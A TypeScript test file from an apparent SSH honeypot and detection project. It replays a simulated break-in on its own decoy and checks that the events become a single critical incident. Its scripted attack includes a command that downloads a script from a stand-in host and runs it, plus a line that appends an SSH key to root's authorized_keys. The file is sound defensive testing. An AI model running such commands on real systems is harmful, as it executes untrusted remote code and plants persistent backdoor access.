/** The words of our own SSH decoy, from its telemetry to the incident: fails when the two ends stop understanding each other. */
import type { Event, SensorEvent } from '@netsentinel/contracts/event';
import { Incident } from '@netsentinel/contracts/incident';
import { interactionOf } from '@netsentinel/contracts/interaction';
import { SshTelemetry } from '@netsentinel/decoys/ssh/ssh.telemetry';
import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
import { createDetectors } from '@netsentinel/detect/detectors';
import { ManualClock } from '@netsentinel/kernel/clock';
import { normaliseSensorEvent } from '@netsentinel/normalise/decoy/decoy.parser';
import { describe, expect, it } from 'vitest';
import { foldEvent } from './fold.ts';

const START = Date.UTC(2026, 10, 21, 10);

/** An attack as the decoy tells it, one second a move. */
function attack(): SensorEvent[] {
  const clock = new ManualClock(START);
  const events: SensorEvent[] = [];
  const telemetry = new SshTelemetry({
    sessionId: 'ssh-1~m1abcdef~1',
    decoy: 'ssh-1',
    persona: 'debian',
    clock,
    endpoints: { source: { ip: '::ffff:198.51.100.7', port: 40_000 }, destination: { ip: '203.0.113.9', port: 22 } },
    emit: (event) => {
      events.push(event);
      clock.advance(1000);
    },
  });
  const kept = { sha256: 'c'.repeat(64), bytes: 12, truncated: false };
  telemetry.connected();
  telemetry.identified('SSH-2.0-libssh_0.9.6');
  telemetry.agreed(undefined, undefined);
  for (const password of ['a', 'b', 'c', 'd', 'e'])
    telemetry.attempted({ user: 'root', method: 'password', password }, false);
  telemetry.attempted({ user: 'root', method: 'password', password: 'f' }, true);
  telemetry.started({ kind: 'shell', environment: {} });
  telemetry.command('uname -a; free -m');
  telemetry.command('wget http://192.0.2.9/bins.sh -O /tmp/.b; sh /tmp/.b');
  telemetry.download('http://192.0.2.9/bins.sh', 'wget', '/tmp/.b');
  telemetry.execute('/tmp/.b', ['sh', '/tmp/.b']);
  telemetry.command('echo ssh-rsa AAAA >> /root/.ssh/authorized_keys');
  telemetry.upload({ path: '/root/.ssh/authorized_keys', kept, how: 'redirect' });
  telemetry.upload({ path: '/tmp/upload', kept });
  telemetry.forward('connect', '192.0.2.8', 80);
  telemetry.bounded('time');
  telemetry.disconnected('closed by the client', { bytes: 100, durationMs: 9000 });
  return events;
}

function normalised(): Event[] {
  return attack().map((event, at) => {
    const stamp = {
      sensor: { id: 'ssh-1', type: 'ssh' },
      epoch: 'm1abcdef',
      sequence: at + 1,
      receivedAt: START,
      sourceVerified: true,
    };
    const result = normaliseSensorEvent(event, stamp);
    if (!result.ok) throw new Error(result.error.event.reason);
    return result.value;
  });
}

describe('an attack on our own SSH decoy', () => {
  const state = newActorState();
  const detectors = createDetectors();
  let incident: Incident | undefined;
  for (const event of normalised()) {
    incident = foldEvent(incident, event, detectors.process(event, state), { before: state.before });
    if (incident === undefined) rememberBefore(state, event);
  }

  it('is understood move by move', () => {
    expect(normalised().map(interactionOf)).toEqual([
      'connect',
      'handshake',
      'login',
      'login',
      'login',
      'login',
      'login',
      'login',
      'session',
      'command',
      'command',
      'download',
      'execute',
      'command',
      'write',
      'upload',
      'outbound',
      'other',
      'disconnect',
    ]);
  });

  it('becomes one incident that says what happened', () => {
    expect(Incident.safeParse(incident).error).toBeUndefined();
    expect(incident).toMatchObject({
      title:
        'SSH break-in by brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, looked around',
      severity: 'critical',
      sourceVerified: true,
      counts: { logins: 1, failures: 5, commands: 3, events: 19 },
      firstSeen: START,
      lastSeen: START + 18_000,
    });
    expect(incident?.tactics).toEqual(['TA0043', 'TA0006', 'TA0001', 'TA0007', 'TA0011', 'TA0002', 'TA0003']);
    expect(incident?.files.map((one) => [one.direction, one.path])).toEqual([
      ['download', '/tmp/.b'],
      ['write', '/root/.ssh/authorized_keys'],
      ['upload', '/tmp/upload'],
    ]);
    expect(incident?.sessions).toEqual([
      {
        id: 'ssh-1~m1abcdef~1',
        decoy: 'ssh-1',
        protocol: 'ssh',
        start: START,
        end: START + 18_000,
        user: 'root',
        recording: 'ssh-1~m1abcdef~1',
        client: 'SSH-2.0-libssh_0.9.6',
      },
    ]);
  });
});
